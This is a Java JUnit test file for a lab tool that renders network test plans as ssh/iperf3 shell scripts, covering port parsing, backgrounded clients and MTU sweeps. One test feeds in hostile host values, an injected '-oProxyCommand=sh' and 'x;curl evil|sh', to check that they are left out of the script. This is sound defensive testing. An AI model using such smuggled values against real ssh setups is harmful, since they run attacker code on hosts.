package io.linklab.engine;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import io.linklab.model.TestPlan;
import java.util.List;
import java.util.Optional;
import org.junit.jupiter.api.Test;

/** "Copy as shell script" is made from the structured commands, quoted as they run. */
class PlanScriptTest {

    private static TestPlan plan(String client, String server, int processes, TestPlan.Sweep sweep) {
        TestPlan d =
                TestPlan.defaults(new TestPlan.End(client, "data0"), new TestPlan.End(server, "data0"), "198.19.3.2");
        return TestPlan.defaults(d.client(), d.server(), d.target()).toBuilder()
                .protocol(d.protocol())
                .durationS(5)
                .processes(processes)
                .sweep(sweep)
                .build();
    }

    @Test
    void anIpv6LoginWithAPortBecomesSshDashP() {
        String script = PlanScript.of(plan("me@[fd00::1]:2222", "root@198.18.3.12", 1, null), l -> Optional.empty());
        assertTrue(script.contains("\nssh -p 2222 me@fd00::1 -- 'iperf3 -c 198.19.3.2 "), script);
        assertTrue(script.contains("\nssh root@198.18.3.12 -- 'timeout --foreground -k 2 "), script);
    }

    @Test
    void serversGoToTheBackgroundAndSeveralClientsRunTogether() {
        String script = PlanScript.of(plan("local", "local", 2, null), l -> Optional.empty());
        List<String> lines = script.lines().toList();
        assertEquals(4, lines.stream().filter(l -> l.endsWith(" &")).count(), script);
        assertTrue(
                lines.stream().anyMatch(l -> l.startsWith("iperf3 -c 198.19.3.2 -p 5202") && l.endsWith(" &")), script);
        assertEquals("wait", lines.get(lines.size() - 1));
    }

    @Test
    void anMtuSweepSetsTheMtuThroughSudoForAUserLogin() {
        TestPlan p = plan(
                "me@198.18.3.11",
                "root@198.18.3.12",
                1,
                new TestPlan.Sweep(TestPlan.SweepKind.MTU, List.of("1500", "9000")));
        String script = PlanScript.of(p, l -> Optional.empty());
        assertTrue(script.contains("# point mtu=9000\n"), script);
        assertTrue(script.contains("ssh me@198.18.3.11 -- 'sudo -n -- linklab-mtu data0 9000'"), script);
        assertTrue(script.contains("ssh root@198.18.3.12 -- 'ip link set dev data0 mtu 9000'"), script);
    }

    @Test
    void aJumpOrKeyFileThatIsNoPlainValueIsLeftOutOfTheScript() {
        io.linklab.model.HostSpec hostile = new io.linklab.model.HostSpec(
                "h1", "h1", "198.18.3.11", "me", 22, "/k\n-oProxyCommand=sh", "x;curl evil|sh", List.of(), 0, 0);
        io.linklab.model.HostSpec fine = new io.linklab.model.HostSpec(
                "h2", "h2", "198.18.3.12", "root", 22, "~/.ssh/lab", "admin@bastion:2200,gw", List.of(), 0, 0);
        String script = PlanScript.of(
                plan("me@198.18.3.11", "root@198.18.3.12", 1, null),
                l -> Optional.of(l.startsWith("me@") ? hostile : fine));
        assertTrue(!script.contains("curl") && !script.contains("ProxyCommand"), script);
        assertTrue(script.contains("# me@198.18.3.11: its jump host is left out"), script);
        assertTrue(script.contains("# me@198.18.3.11: its key file is left out"), script);
        assertTrue(script.contains("ssh -i '~/.ssh/lab' -J admin@bastion:2200,gw root@198.18.3.12 -- "), script);
    }
}
